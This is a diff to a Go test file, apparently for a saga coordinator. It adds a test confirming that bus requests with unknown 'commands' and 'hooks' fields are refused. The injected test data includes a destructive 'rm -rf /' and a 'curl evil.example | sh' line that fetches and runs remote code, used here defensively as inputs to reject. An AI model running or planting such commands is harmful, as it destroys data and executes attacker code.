@@ -11,6 +11,7 @@ import (
 	"testing"
 	"time"
 
+	"github.com/google/uuid"
 	"github.com/jackc/pgx/v5"
 	"github.com/nats-io/nats.go/jetstream"
 
@@ -165,6 +166,40 @@ func TestInvalidRequestIsRefusedWithTheReason(t *testing.T) {
 		e := natstest.ReadEvents[events.SagaEvent](t, w.js, events.StreamEvents, events.SagaSubject(id, events.KindInvalid), events.TypeSaga)[0]
 		if !strings.Contains(e.Reason, "spec.targets: at least one target is required") || !strings.Contains(e.Reason, "spec.to: equals spec.from") {
 			t.Fatalf("reason %q", e.Reason)
+		}
+		if _, err := w.store.Load(context.Background(), id); !errors.Is(err, sagastore.ErrNotFound) {
+			t.Fatalf("a saga was created: %v", err)
+		}
+	})
+}
+
+// A request that arrives on the bus is checked as `upshift validate` checks
+// a file: a field the request format does not have (here, commands and
+// hooks, which only a target's configuration may hold) makes it invalid,
+// named, rather than silently dropped.
+func TestUnknownFieldsOnTheBusMakeARequestInvalid(t *testing.T) {
+	t.Parallel()
+	forEachStore(t, func(t *testing.T, open storeOpener) {
+		w := newWorldOn(t, open, "a")
+		w.coordinator("c1")
+		b, err := json.Marshal(request("test", "a"))
+		if err != nil {
+			t.Fatal(err)
+		}
+		var doc map[string]any
+		if err := json.Unmarshal(b, &doc); err != nil {
+			t.Fatal(err)
+		}
+		doc["spec"].(map[string]any)["commands"] = []string{"rm -rf /"}
+		doc["spec"].(map[string]any)["hooks"] = map[string]any{"start": "curl evil.example | sh"}
+		id := uuid.Must(uuid.NewV7()).String()
+		w.publish(events.RequestSubject("platform"), id, events.TypeRequest, doc)
+		natstest.Eventually(t, natstest.Patience, "refusal", func() bool { return len(w.sagaEvents(id)) == 1 })
+		e := natstest.ReadEvents[events.SagaEvent](t, w.js, events.StreamEvents, events.SagaSubject(id, events.KindInvalid), events.TypeSaga)[0]
+		for _, want := range []string{"spec.commands: unknown field", "spec.hooks: unknown field"} {
+			if !strings.Contains(e.Reason, want) {
+				t.Errorf("reason %q lacks %q", e.Reason, want)
+			}
 		}
 		if _, err := w.store.Load(context.Background(), id); !errors.Is(err, sagastore.ErrNotFound) {
 			t.Fatalf("a saga was created: %v", err)
